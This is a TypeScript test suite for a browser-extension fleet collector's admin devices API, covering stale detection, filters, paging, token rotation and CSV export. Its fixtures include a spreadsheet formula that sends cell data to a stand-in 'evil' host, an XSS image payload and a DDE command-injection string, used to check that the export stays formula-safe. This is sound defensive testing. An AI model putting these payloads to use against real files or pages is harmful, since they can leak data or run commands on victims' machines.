/**
 * GET /v1/admin/devices over real HTTP with a fake clock: stale devices, silence, warnings, versions,
 * filters, CSV; on SQLite always and on PostgreSQL when UPLOAD_GUARD_TEST_PG is set.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleEvent, sampleHeartbeat } from '../../src/events/sample.js';
import type { Heartbeat } from '../../src/events/schema.js';
import { DEVICE_CSV_COLUMNS, compareVersions, staleAfter, type DeviceReport, type FleetReport } from '../../src/collector/devices.js';
import { tokenId } from '../../src/collector/auth.js';
import { createCollector, type Collector, type CollectorOptions } from '../../src/collector/server.js';
import { PostgresStorage } from '../../src/collector/storage/postgres.js';
import { SqliteStorage } from '../../src/collector/storage/sqlite.js';
import type { Storage } from '../../src/collector/storage/types.js';

const PG_URL = process.env.UPLOAD_GUARD_TEST_PG;
const INGEST = 'ingest-token-for-device-tests-0123';
const ADMIN = 'admin-token-for-device-tests-3210';
const T0 = Date.parse('2026-11-02T09:00:00.000Z');
const MIN = 60_000;
const iso = (ms: number) => new Date(ms).toISOString();

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

interface Backend {
  name: string;
  open(): Promise<Storage>;
  cleanup(s: Storage): Promise<void>;
}
const backends: Backend[] = [
  {
    name: 'sqlite',
    async open() {
      const dir = mkdtempSync(join(tmpdir(), 'ug-devices-'));
      dirs.push(dir);
      return new SqliteStorage({ path: join(dir, 'events.db') });
    },
    cleanup: (s) => s.close(),
  },
];
if (PG_URL) {
  backends.push({
    name: 'postgres',
    open: () => PostgresStorage.open({ connectionString: PG_URL, schema: `ug_dev_${randomUUID().replace(/-/g, '').slice(0, 16)}`, poolSize: 4 }),
    async cleanup(s) {
      await (s as PostgresStorage).dropSchema();
      await s.close();
    },
  });
}

// Hostile strings from devices: ids and users are whatever a (possibly tampered) extension sends.
const HOSTILE_ID = '=HYPERLINK("http://evil/?"&A1,"x")';
const HOSTILE_USER = '<img src=x onerror=alert(1)>@example.co.jp';
const DDE_USER = "-2+3+cmd|' /C calc'!A0";

describe.each(backends)('devices API: $name', (backend) => {
  let storage: Storage;
  let c: Collector;
  let url: string;
  let clock = T0;

  async function start(extra: Partial<CollectorOptions> = {}) {
    const col = await createCollector({
      storage,
      ingestTokens: [INGEST],
      adminTokens: [ADMIN],
      ingestRateLimit: { perSecond: 1000, burst: 1000 },
      adminRateLimit: { perSecond: 1000, burst: 1000 },
      now: () => clock,
      ...extra,
    });
    return { col, url: await col.listen(0) };
  }

  const beat = async (h: Partial<Heartbeat>, at: number) => {
    clock = at;
    const res = await fetch(url + '/v1/heartbeat', {
      method: 'POST',
      headers: { authorization: `Bearer ${INGEST}`, 'content-type': 'application/json' },
      body: JSON.stringify(sampleHeartbeat({ time: iso(at), ...h })),
    });
    expect(res.status, await res.clone().text()).toBe(204);
  };

  const report = async (qs = '', base = url): Promise<FleetReport> => {
    const res = await fetch(`${base}/v1/admin/devices${qs ? `?${qs}` : ''}`, { headers: { authorization: `Bearer ${ADMIN}` } });
    expect(res.status, await res.clone().text()).toBe(200);
    return res.json();
  };
  const byId = (r: FleetReport) => new Map(r.devices.map((d) => [d.deviceId, d]));

  beforeAll(async () => {
    storage = await backend.open();
    ({ col: c, url } = await start());
    // pc-a: force-installed, managed, 15-minute heartbeat. Sent an event an hour before its first heartbeat.
    clock = T0 - 60 * MIN;
    const ev = await fetch(url + '/v1/events', {
      method: 'POST',
      headers: { authorization: `Bearer ${INGEST}`, 'content-type': 'application/json' },
      body: JSON.stringify({ events: [sampleEvent({ deviceId: 'pc-a', time: iso(T0 - 61 * MIN) })] }),
    });
    expect(ev.status).toBe(200);
    await beat({ deviceId: 'pc-a', user: 'alice', extensionVersion: '0.1.0', heartbeatMinutes: 15, installType: 'admin', managed: true, incognitoAllowed: false }, T0);
    // pc-b: an older extension (no optional fields) with a hostile id and user: default interval 15.
    await beat({ deviceId: HOSTILE_ID, user: HOSTILE_USER, extensionVersion: '0.1.0' }, T0);
    // pc-c: hourly heartbeat, installed by the user, no managed policy, queue overflowed.
    await beat({ deviceId: 'pc-c', deviceName: '経理-PC-07', user: DDE_USER, extensionVersion: '0.2.0', heartbeatMinutes: 60, installType: 'normal', managed: false, dropped: 4 }, T0);
    // pc-d: upgraded to 0.10.0, then downgraded to 0.9.0 (numeric order, not string order).
    await beat({ deviceId: 'pc-d', user: 'dave', extensionVersion: '0.10.0', heartbeatMinutes: 5, installType: 'admin', managed: true }, T0 - 10 * MIN);
    await beat({ deviceId: 'pc-d', user: 'dave', extensionVersion: '0.9.0', heartbeatMinutes: 5, installType: 'admin', managed: true }, T0);
  });
  afterAll(async () => {
    await c?.close();
    if (storage) await backend.cleanup(storage);
  });

  it('reports every device active right after its heartbeat, with first contact and version history', async () => {
    clock = T0 + MIN;
    const r = await report();
    expect(r.counts).toEqual({ total: 4, active: 4, stale: 0 });
    const d = byId(r);
    expect(d.get('pc-a')).toMatchObject({
      status: 'active',
      silentMinutes: 1,
      staleAfterMinutes: 50,
      warnings: [],
      firstSeen: iso(T0 - 60 * MIN),
      lastSeen: iso(T0),
      heartbeatMinutes: 15,
      installType: 'admin',
      managed: true,
      incognitoAllowed: false,
      previousVersion: null,
      versionSince: iso(T0),
    });
    // Fields an older extension does not send are null, not missing.
    expect(d.get(HOSTILE_ID)).toMatchObject({ user: HOSTILE_USER, heartbeatMinutes: null, installType: null, managed: null, incognitoAllowed: null, staleAfterMinutes: 50, warnings: [] });
    expect(d.get('pc-c')).toMatchObject({ staleAfterMinutes: 185, warnings: ['not-force-installed', 'no-managed-policy', 'queue-dropping'] });
    expect(d.get('pc-d')).toMatchObject({ extensionVersion: '0.9.0', previousVersion: '0.10.0', versionSince: iso(T0), warnings: ['downgraded'], staleAfterMinutes: 20 });
    // Versions across the fleet, newest first by version number.
    expect(r.versions).toEqual([
      { extensionVersion: '0.9.0', devices: 1, stale: 0 },
      { extensionVersion: '0.2.0', devices: 1, stale: 0 },
      { extensionVersion: '0.1.0', devices: 2, stale: 0 },
    ]);
  });

  it('marks a device stale after 3 heartbeat intervals + 5 minutes of silence, exactly', async () => {
    // pc-d (5-minute heartbeat) may be silent 20 minutes; pc-a and the default device 50.
    clock = T0 + 20 * MIN;
    expect(byId(await report()).get('pc-d')).toMatchObject({ status: 'active', silentMinutes: 20 });
    clock = T0 + 20 * MIN + 1;
    expect(byId(await report()).get('pc-d')).toMatchObject({ status: 'stale', warnings: ['stale', 'downgraded'] });
    clock = T0 + 50 * MIN;
    let d = byId(await report());
    expect(d.get('pc-a')!.status).toBe('active');
    expect(d.get(HOSTILE_ID)!.status).toBe('active');
    clock = T0 + 51 * MIN;
    const r = await report();
    d = byId(r);
    expect(d.get('pc-a')).toMatchObject({ status: 'stale', silentMinutes: 51, warnings: ['stale'] });
    expect(d.get(HOSTILE_ID)!.status).toBe('stale');
    expect(d.get('pc-c')).toMatchObject({ status: 'active', warnings: ['not-force-installed', 'no-managed-policy', 'queue-dropping'] });
    expect(r.counts).toEqual({ total: 4, active: 1, stale: 3 });
    expect(r.versions.find((v) => v.extensionVersion === '0.1.0')).toEqual({ extensionVersion: '0.1.0', devices: 2, stale: 2 });
    // A new heartbeat makes it active again.
    await beat({ deviceId: 'pc-a', user: 'alice', extensionVersion: '0.1.0', heartbeatMinutes: 15, installType: 'admin', managed: true, incognitoAllowed: false }, T0 + 52 * MIN);
    expect(byId(await report()).get('pc-a')).toMatchObject({ status: 'active', silentMinutes: 0, firstSeen: iso(T0 - 60 * MIN) });
    clock = T0 + 186 * MIN;
    expect(byId(await report()).get('pc-c')!.status).toBe('stale');
  });

  it('filters by status, version and user; counts and versions stay fleet-wide', async () => {
    clock = T0 + 60 * MIN; // pc-a heard at +52: active; the others stale except pc-c
    const stale = await report('status=stale');
    expect(stale.devices.map((d) => d.deviceId).sort()).toEqual([HOSTILE_ID, 'pc-d'].sort());
    expect(stale.counts.total).toBe(4);
    expect((await report('status=active')).devices.map((d) => d.deviceId).sort()).toEqual(['pc-a', 'pc-c']);
    expect((await report('version=0.1.0')).devices.map((d) => d.deviceId).sort()).toEqual([HOSTILE_ID, 'pc-a'].sort());
    expect((await report('version=0.1.0&status=stale')).devices.map((d) => d.deviceId)).toEqual([HOSTILE_ID]);
    expect((await report(`user=${encodeURIComponent(HOSTILE_USER)}`)).devices.map((d) => d.deviceId)).toEqual([HOSTILE_ID]);
    expect((await report('user=nobody')).devices).toEqual([]);
    expect((await report('version=9.9.9')).versions).toHaveLength(3);
  });

  it('pages the devices with a cursor, stale first then newest heartbeat first, filters applied by the database, totals for the whole fleet', async () => {
    clock = T0 + 40 * MIN; // pc-d (5-minute heartbeat: stale after 20 min) is stale, the others active
    const whole = await report();
    expect(whole.nextCursor).toBeNull();
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: FleetReport = await report(`limit=1${cursor ? `&cursor=${cursor}` : ''}`);
      expect(page.devices.length).toBeLessThanOrEqual(1);
      // Every page carries the fleet's totals, not the page's.
      expect(page.counts).toEqual(whole.counts);
      expect(page.versions).toEqual(whole.versions);
      seen.push(...page.devices.map((d) => d.deviceId));
      cursor = page.nextCursor ?? null;
    } while (cursor);
    expect(seen).toEqual(whole.devices.map((d) => d.deviceId));
    expect(new Set(seen).size).toBe(4);
    // Stale devices first (what an admin acts on), then active ones; within each, newest heartbeat first.
    expect(whole.devices.map((d) => d.status)).toEqual(['stale', 'active', 'active', 'active']);
    expect(whole.devices[0]!.deviceId).toBe('pc-d');
    const lastSeen = whole.devices.slice(1).map((d) => Date.parse(d.lastSeen));
    expect([...lastSeen].sort((a, b) => b - a)).toEqual(lastSeen);
    expect(whole.counts).toEqual({ total: 4, active: 3, stale: 1 });
    const stalePages = await report('status=stale&limit=1');
    expect(stalePages.devices.map((d) => d.deviceId)).toEqual(['pc-d']);
    expect(stalePages.nextCursor).toBeNull();
    const active = await report('status=active&limit=2');
    expect(active.devices).toHaveLength(2);
    const rest = await report(`status=active&limit=2&cursor=${active.nextCursor}`);
    // A cursor of one status part does not continue another.
    expect((await fetch(`${url}/v1/admin/devices?status=stale&cursor=${active.nextCursor}`, { headers: { authorization: `Bearer ${ADMIN}` } })).status).toBe(400);
    expect([...active.devices, ...rest.devices].map((d) => d.deviceId).sort()).toEqual(['pc-a', 'pc-c', HOSTILE_ID].sort());
  });

  it('refuses bad parameters with 400 naming them, and the ingest token with 403', async () => {
    for (const [qs, msg] of [
      ['status=dead', /^status:/],
      ['status=stale,active', /^status:/],
      ['version=', /^version: must not be empty/],
      [`version=${'9'.repeat(65)}`, /^version: at most 64/],
      ['user=a%0Ab', /^user: control characters/],
      ['user=a&user=b', /^user: given more than once/],
      ['format=ndjson', /^format:/],
      ['limit=0', /^limit:/],
      ['limit=1001', /^limit:/],
      ['cursor=bm90LWEtY3Vyc29y', /^cursor:/],
      ['sort=time', /^sort: unknown field/],
      ['__proto__=1', /unknown field/],
    ] as const) {
      const res = await fetch(`${url}/v1/admin/devices?${qs}`, { headers: { authorization: `Bearer ${ADMIN}` } });
      expect(res.status, qs).toBe(400);
      const body = await res.json();
      expect(body.error, qs).toMatch(msg);
      expect(body.errors[0]).toBe(body.error);
    }
    expect((await fetch(`${url}/v1/admin/devices`, { headers: { authorization: `Bearer ${INGEST}` } })).status).toBe(403);
    expect((await fetch(`${url}/v1/admin/devices`)).status).toBe(401);
  });

  it('exports CSV like the events export: BOM, CRLF, every column, formula-safe cells', async () => {
    clock = T0 + 60 * MIN;
    for (const res of [
      await fetch(`${url}/v1/admin/devices?format=csv`, { headers: { authorization: `Bearer ${ADMIN}` } }),
      await fetch(`${url}/v1/admin/devices`, { headers: { authorization: `Bearer ${ADMIN}`, accept: 'text/csv' } }),
    ]) {
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="upload-guard-devices-\d{8}T\d{6}\.csv"$/);
      const bytes = Buffer.from(await res.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const lines = bytes.toString('utf8').slice(1).split('\r\n');
      expect(lines[0]).toBe(DEVICE_CSV_COLUMNS.join(','));
      expect(lines).toHaveLength(1 + 4 + 1); // header, 4 devices, the empty string after the last CRLF
      const text = lines.join('\r\n');
      // Leading = + - @ get an apostrophe; quotes are doubled; the cells stay text in Excel.
      expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
      expect(text).toContain(`'-2+3+cmd|' /C calc'!A0`);
      expect(text).not.toMatch(/(^|,)[=+\-@]/m);
      const pcC = lines.find((l) => l.startsWith('pc-c,'))!;
      expect(pcC).toMatch(/^pc-c,経理-PC-07,/);
      expect(pcC).toContain(',active,');
      expect(pcC).toContain(',not-force-installed no-managed-policy queue-dropping,');
    }
    const stale = await (await fetch(`${url}/v1/admin/devices?format=csv&status=stale`, { headers: { authorization: `Bearer ${ADMIN}` } })).text();
    expect(stale.trimEnd().split('\r\n')).toHaveLength(1 + 2);
  });

  it('staleAfterMinutes (a collector option) overrides the per-device rule', async () => {
    // Counted at every request (no reuse): the totals must flip at the same millisecond as the row.
    const { col, url: other } = await start({ staleAfterMinutes: 10, fleetCountsTtlMs: 0 });
    try {
      clock = T0 + 52 * MIN + 10 * MIN; // pc-a's last heartbeat was at +52
      expect(byId(await report('', other)).get('pc-a')).toMatchObject({ status: 'active', staleAfterMinutes: 10 });
      clock += 1;
      const r = await report('', other);
      expect(byId(r).get('pc-a')).toMatchObject({ status: 'stale', staleAfterMinutes: 10 });
      expect(r.counts).toEqual({ total: 4, active: 0, stale: 4 });
    } finally {
      await col.close();
    }
    await expect(createCollector({ storage, ingestTokens: ['ingest-token-0123456789abcdef'], adminTokens: ['admin-token-0123456789abcdef'], staleAfterMinutes: 0 })).rejects.toThrow(/staleAfterMinutes/);
  });

  it('an ingest token rotation: both tokens accepted, each device shows which one it used, the old one flagged until retired', async () => {
    const NEW = 'ingest-token-after-rotation-4567';
    const send = (base: string, token: string, deviceId: string) =>
      fetch(base + '/v1/heartbeat', {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify(sampleHeartbeat({ deviceId, time: iso(clock), extensionVersion: '0.3.0' })),
      });
    clock = T0 + 2 * MIN;
    const rotating = await start({ ingestTokens: [NEW, INGEST] });
    try {
      expect((await send(rotating.url, INGEST, 'rot-old')).status).toBe(204);
      expect((await send(rotating.url, NEW, 'rot-new')).status).toBe(204);
      const r = await report('', rotating.url);
      const d = byId(r);
      expect(d.get('rot-old')!.tokenId).toBe(tokenId(INGEST));
      expect(d.get('rot-old')!.warnings).toContain('old-token');
      expect(d.get('rot-new')!.tokenId).toBe(tokenId(NEW));
      expect(d.get('rot-new')!.warnings).not.toContain('old-token');
      expect(JSON.stringify(r)).not.toContain(NEW);
      expect(JSON.stringify(r)).not.toContain(INGEST);
      expect(r.tokens.find((t) => t.state === 'current')).toMatchObject({ tokenId: tokenId(NEW), devices: 1, active: 1 });
      expect(r.tokens.find((t) => t.tokenId === tokenId(INGEST))).toMatchObject({ state: 'accepted' });
      const onOld = await report(`tokenId=${tokenId(INGEST)}`, rotating.url);
      expect(onOld.devices.map((x) => x.deviceId)).toContain('rot-old');
      expect(onOld.devices.map((x) => x.deviceId)).not.toContain('rot-new');
      const bad = await fetch(`${rotating.url}/v1/admin/devices?tokenId=${encodeURIComponent(INGEST)}`, { headers: { authorization: `Bearer ${ADMIN}` } });
      expect(bad.status).toBe(400);
    } finally {
      await rotating.col.close();
    }
    // The old token retired: refused at ingest, and devices still on it are listed as such.
    const retired = await start({ ingestTokens: [NEW] });
    try {
      expect((await send(retired.url, INGEST, 'rot-old')).status).toBe(401);
      const r = await report('', retired.url);
      expect(r.tokens.find((t) => t.tokenId === tokenId(INGEST))).toMatchObject({ state: 'retired' });
      expect(byId(r).get('rot-old')!.warnings).toContain('old-token');
    } finally {
      await retired.col.close();
    }
  });

  it('reuses the fleet totals for up to 10 s (countedAt says when), and counts again at once for a new device', async () => {
    const { col, url: other } = await start();
    try {
      const first = await report('', other);
      const total = first.counts.total;
      expect(first.countedAt).toBe(iso(clock));
      // A heartbeat that moves nothing (same device, version and token, not silent): the count is reused.
      const d = first.devices.find((x) => x.status === 'active')!;
      clock += 1000;
      const res = await fetch(other + '/v1/heartbeat', {
        method: 'POST',
        headers: { authorization: `Bearer ${INGEST}`, 'content-type': 'application/json' },
        body: JSON.stringify(sampleHeartbeat({ deviceId: d.deviceId, user: d.user, extensionVersion: d.extensionVersion, heartbeatMinutes: d.heartbeatMinutes ?? undefined, time: iso(clock) })),
      });
      expect(res.status).toBe(204);
      expect((await report('', other)).countedAt).toBe(first.countedAt);
      // A new device: counted again now.
      clock += 1000;
      const added = await fetch(other + '/v1/heartbeat', {
        method: 'POST',
        headers: { authorization: `Bearer ${INGEST}`, 'content-type': 'application/json' },
        body: JSON.stringify(sampleHeartbeat({ deviceId: 'pc-counted-again', time: iso(clock) })),
      });
      expect(added.status).toBe(204);
      const again = await report('', other);
      expect(again.countedAt).toBe(iso(clock));
      expect(again.counts.total).toBe(total + 1);
      // Ten seconds on, nothing changed: counted again all the same.
      clock += 10_000;
      expect((await report('', other)).countedAt).toBe(iso(clock));
    } finally {
      await col.close();
    }
  });
});

describe('device rules', () => {
  it('stale after 3 × interval + 5 minutes (15 when unknown), unless overridden', () => {
    expect(staleAfter(15)).toBe(50);
    expect(staleAfter(undefined)).toBe(50);
    expect(staleAfter(null)).toBe(50);
    expect(staleAfter(1440)).toBe(4325);
    expect(staleAfter(1, 30)).toBe(30);
  });

  it('orders versions numerically, then as strings for anything else', () => {
    expect(compareVersions('0.10.0', '0.9.0')).toBe(1);
    expect(compareVersions('1.0', '1.0.0')).toBe(0);
    expect(compareVersions('1.2.3.4', '1.2.3.5')).toBe(-1);
    expect(compareVersions('beta', '1.0')).toBe(1);
    const sorted = ['0.2.0', '0.10.0', '0.9.1', 'x'].sort(compareVersions);
    expect(sorted).toEqual(['0.2.0', '0.9.1', '0.10.0', 'x']);
  });

  it('DeviceReport has every CSV column', () => {
    const cols: readonly (keyof DeviceReport)[] = DEVICE_CSV_COLUMNS;
    expect(new Set(cols).size).toBe(cols.length);
  });
});
